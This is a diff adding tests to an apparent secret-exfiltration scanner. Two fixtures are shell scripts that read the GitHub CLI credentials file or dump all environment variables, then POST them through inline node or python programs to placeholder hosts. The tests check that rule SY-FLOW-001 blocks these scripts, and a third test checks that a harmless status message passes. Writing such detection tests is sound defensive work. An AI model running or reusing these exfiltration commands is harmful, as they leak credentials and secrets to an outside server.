@@ -220,3 +220,34 @@ def test_program_reading_disk_health_does_not_block(tmp_path: Path) -> None:
         '    let _ = Command::new("wipefs").args(["--no-act", &d]).status();\n}\n'
     )
     assert blocking(tmp_path, {"src/main.rs": rs}) == {}
+
+
+# ------------------------------------------------ an inline program handed the secret as an argument
+
+
+def test_node_eval_sending_its_arguments_blocks(tmp_path: Path) -> None:
+    sh = (
+        "#!/bin/sh\nbody=$(cat ~/.config/gh/hosts.yml)\n"
+        'node -e \'require("https").request(process.argv[1], {method: "POST"}).end(process.argv[2])\' '
+        '"https://status.board.example.test/p" "$body"\n'
+    )
+    assert "SY-FLOW-001" in blocking(tmp_path, {"scripts/notify.sh": sh})
+
+
+def test_python_inline_program_posting_its_argument_blocks(tmp_path: Path) -> None:
+    sh = (
+        "#!/bin/bash\nall=$(printenv)\n"
+        "python3 -c 'import sys, requests; requests.post(sys.argv[1], data=sys.argv[2])' "
+        'https://deploys.board.example.test/hook "$all"\n'
+    )
+    assert "SY-FLOW-001" in blocking(tmp_path, {"entrypoint.sh": sh})
+
+
+def test_inline_program_sending_a_plain_message_does_not_block(tmp_path: Path) -> None:
+    sh = (
+        '#!/bin/sh\nmsg="started $(hostname) at $(date)"\n'
+        "node -e 'fetch(process.argv[1], {method: \"POST\", body: process.argv[2]})' "
+        '"https://status.board.example.test/p" "$msg"\n'
+        "python3 -c 'import sys; print(sys.argv[1].upper())' \"$msg\"\n"
+    )
+    assert blocking(tmp_path, {"scripts/notify.sh": sh}) == {}
